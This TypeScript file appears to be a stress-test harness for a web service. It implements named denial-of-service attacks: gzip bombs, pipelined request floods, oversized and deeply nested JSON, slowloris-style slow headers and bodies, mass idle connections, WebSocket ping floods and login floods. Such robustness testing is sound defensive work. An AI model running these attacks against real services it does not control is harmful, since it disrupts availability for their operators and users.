// What a hostile client does to the service for some seconds; run by attacker.ts, a process of its own.
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { array, bundle, deep, head, keys, login, notify, orders, post, zipped } from './requests.js';

export interface Target {
  host: string;
  port: number;
  /** `Authorization` of an administrator who may place orders. */
  authorization: string;
  seconds: number;
}

type Attack = (field: Field) => Promise<unknown>;

/** Connections that fit into the open files of one process (ulimit -n), of the 10,000 that are tried. */
export const most = 10_000;

/** An attack under way: its connections, and what came back. */
export class Field {
  readonly sockets = new Set<Socket>();
  readonly target: Target;
  readonly until: number;
  opened = 0;
  refused = 0;
  sent = 0;
  /** What was sent. */
  what = 'requests';
  readonly statuses = new Map<string, number>();

  constructor(target: Target) {
    this.target = target;
    this.until = Date.now() + target.seconds * 1000;
  }

  get goesOn(): boolean {
    return Date.now() < this.until;
  }

  /** Opens a connection from one of so many addresses. */
  open(addresses = 1, { reads = true } = {}): Socket {
    const { host, port } = this.target;
    const from = this.opened++ % addresses;
    const localAddress = `127.2.${from >> 7}.${1 + (from & 127)}`;
    const socket = connect({ host, port, localAddress });
    this.sockets.add(socket);
    socket.on('error', () => undefined);
    let isAnswered = false;
    if (reads)
      socket.on('data', (data) => {
        isAnswered = true;
        const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1', 0, 20))?.[1];
        if (status) this.statuses.set(status, (this.statuses.get(status) ?? 0) + 1);
      });
    socket.once('close', () => {
      this.sockets.delete(socket);
      if (!isAnswered) this.refused++;
    });
    return socket;
  }

  /** So many lines at once, each doing its work again and again until the time is over. */
  async repeat(lines: number, work: () => Promise<unknown>): Promise<void> {
    const line = async (): Promise<void> => {
      while (this.goesOn) await work().catch(() => sleep(5));
    };
    await Promise.all(Array.from({ length: lines }, line));
  }

  /** Sends a request over a fresh connection and waits until it is closed or answered. */
  async ask(request: string | Buffer, addresses = 1): Promise<void> {
    const socket = this.open(addresses);
    this.sent++;
    socket.write(request);
    await this.answered(socket);
    socket.destroy();
  }

  /** Something has come, or never will. */
  async answered(socket: Socket): Promise<void> {
    await Promise.race([once(socket, 'data'), once(socket, 'close'), sleep(this.until - Date.now() + 1)]);
  }

  /** Ends all connections. @returns what happened */
  end(): string {
    const held = this.sockets.size;
    for (const socket of this.sockets) socket.destroy();
    const answers = [...this.statuses].sort().map(([status, times]) => `${status}: ${times}`);
    return [
      `${this.sent || this.opened} ${this.sent ? this.what : 'connections'}`,
      this.sent && this.opened !== this.sent ? `${this.opened} connections` : '',
      held ? `${held} open at the end` : '',
      answers.join(', '),
    ]
      .filter(Boolean)
      .join('; ');
  }
}

const owned = ({ target }: Field): string => `Authorization: ${target.authorization}\r\n`;

/** Attacks by name. */
export const attacks: Record<string, Attack> = {
  async 'documentation, pipelined 1,100-fold and never read'(field) {
    await field.repeat(6, async () => {
      const socket = field.open(1, { reads: false });
      field.sent += 1100;
      socket.write(head('GET', bundle).repeat(1100));
      await Promise.race([once(socket, 'close'), sleep(1000)]);
    });
  },

  async 'documentation, read as fast as it comes'(field) {
    await field.repeat(20, () => field.ask(head('GET', bundle, 'Connection: close\r\n')));
  },

  async 'pipelined requests, never read'(field) {
    await field.repeat(50, async () => {
      const socket = field.open(1, { reads: false });
      field.sent += 1000;
      socket.write(head('GET', '/api/admin/info').repeat(1000));
      await Promise.race([once(socket, 'close'), sleep(500)]);
      socket.destroy();
    });
  },

  async 'requests abandoned at once'(field) {
    await field.repeat(20, async () => {
      const socket = field.open();
      field.sent++;
      socket.write(head('GET', `${orders}?keyword=x${field.sent}`, owned(field)));
      await sleep(2);
      socket.destroy();
    });
  },

  async 'gzip bombs: 1 MB in 1 KB'(field) {
    const bodies = [
      zipped(orders, `{"user_id":1,"details":${array('1', 500_000)}}`, owned(field)),
      zipped(login, ' '.repeat(1_048_000)),
      zipped(notify, ' '.repeat(1_048_000)),
    ];
    await field.repeat(20, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
  },

  async 'gzip bombs kept open: 1,000 connections'(field) {
    const request = zipped(login, ' '.repeat(1_048_000)).subarray(0, -9);
    for (let index = 0; index < 1000; index++) field.open(4).write(request);
    await sleep(field.target.seconds * 1000);
  },

  async 'huge arrays, many keys, deep JSON (signed in)'(field) {
    const bodies = [
      post(orders, `{"user_id":1,"details":${array('{}', 60_000)}}`, owned(field)),
      post(orders, `{"user_id":1,"details":${array('{}', 200)}}`, owned(field)),
      post(orders, keys(6000), owned(field)),
      post(orders, deep(30_000), owned(field)),
      post(orders, `{"user_id":1,"details":${array('1', 120_000)}}`, owned(field)),
    ];
    await field.repeat(8, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
  },

  async 'huge arrays, many keys, deep JSON (anonymous)'(field) {
    const bodies = [
      ...[`{"z":${array('{}', 20_000)}}`, keys(6000), deep(30_000)].map((body) => post(notify, body)),
      ...[`{"username":"a","password":"b","z":${array('{}', 1200)}}`, deep(1900)].map((body) =>
        post(login, body),
      ),
      post(login, `{"z":${array('{}', 300_000)}}`),
    ];
    await field.repeat(8, () => field.ask(bodies[field.sent % bodies.length] as Buffer));
  },

  async 'slow heads: a byte a second'(field) {
    await drip(field, Buffer.from(head('GET', '/healthz', `X: ${'x'.repeat(500)}\r\n`)), 1500);
  },

  async 'slow bodies: a byte a second'(field) {
    const request = post(notify, `{"a":"${'x'.repeat(60_000)}"}`);
    await drip(field, request, 1500, request.indexOf('{'));
  },

  async '10,000 idle connections from one address'(field) {
    await crowd(field, 1);
  },

  async '10,000 idle connections from 200 addresses'(field) {
    await crowd(field, 200);
  },

  async '10,000 requests at once, each over its own connection'(field) {
    const requests = [
      head('GET', orders),
      head('GET', `/${'a/'.repeat(3000)}`),
      post(login, '{"username":1}'),
      post(notify, '{"out_trade_no":1}'),
      'GARBAGE\r\n\r\n',
    ];
    await Promise.all(
      Array.from({ length: most }, async (_, index) => {
        await sleep((index / most) * field.target.seconds * 900);
        await field.ask(requests[index % requests.length] as string, 200);
      }),
    );
  },

  async 'event streams of one administrator'(field) {
    field.what = 'streams';
    await field.repeat(20, async () => {
      const socket = field.open(4);
      field.sent++;
      socket.write(head('GET', '/api/admin/dashboard/stream?interval=2', owned(field)));
      await field.answered(socket);
      await sleep(20);
    });
  },

  async 'sockets of one administrator, ping flood, never read'(field) {
    field.what = 'sockets';
    const { target } = field;
    const address = `${target.host}:${target.port}`;
    const open = new Set<WebSocket>();
    await field.repeat(4, async () => {
      const response = await fetch(`http://${address}/api/admin/notifications/ws-ticket`, {
        ...{ method: 'POST', body: '{}' },
        headers: { authorization: target.authorization, 'content-type': 'application/json' },
      });
      const { data } = (await response.json()) as { data: { ticket: string } };
      const socket = new WebSocket(`ws://${address}/ws/admin/notifications?ticket=${data.ticket}`);
      socket.on('error', () => undefined);
      field.sent++;
      await Promise.race([once(socket, 'open'), sleep(1000)]);
      open.add(socket);
      socket.pause();
      for (let ping = 0; ping < 2000; ping++) socket.ping(Buffer.alloc(125));
      socket.send(Buffer.alloc(20_000));
      await sleep(10);
    });
    for (const socket of open) socket.terminate();
  },

  async 'sockets without a ticket'(field) {
    const upgrade = `Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${'a'.repeat(22)}==\r\n`;
    await field.repeat(20, () => field.ask(head('GET', '/ws/admin/notifications?ticket=x', upgrade), 4));
  },

  async 'sign-ins with wrong captchas, and captchas'(field) {
    const body = '{"username":"admin","password":"wrong","captcha_id":"x","captcha_code":"y"}';
    await field.repeat(20, () =>
      field.ask(field.sent % 4 ? post(login, body) : head('GET', '/api/admin/login/captcha'), 50),
    );
  },

  async 'sign-ins with made-up names from one address'(field) {
    await field.repeat(40, () =>
      field.ask(post(login, `{"username":"nobody-${field.sent}","password":"wrong"}`)),
    );
  },

  async 'refused callbacks of 24 KB'(field) {
    const body = `{"out_trade_no":"PAY1","x":"${'x'.repeat(24_000)}"}`;
    await field.repeat(8, () => field.ask(post(notify, body)));
  },
};

// Sends a byte of the request a second over each connection; opens a closed one again.
async function drip(field: Field, request: Buffer, connections: number, at = 10): Promise<void> {
  const slow = new Map<Socket, number>();
  while (field.goesOn) {
    for (let missing = connections - field.sockets.size; missing > 0; missing--) {
      const socket = field.open(4);
      socket.write(request.subarray(0, at));
      slow.set(socket, at);
    }
    await sleep(1000);
    for (const [socket, sent] of slow) {
      if (socket.destroyed) slow.delete(socket);
      else slow.set(socket, sent + Number(socket.write(request.subarray(sent, sent + 1))));
    }
  }
}

async function crowd(field: Field, addresses: number): Promise<void> {
  for (let index = 0; index < most && field.goesOn; index++) {
    field.open(addresses);
    if (index % 200 === 0) await sleep(20);
  }
  await sleep(Math.max(0, field.until - Date.now()));
}
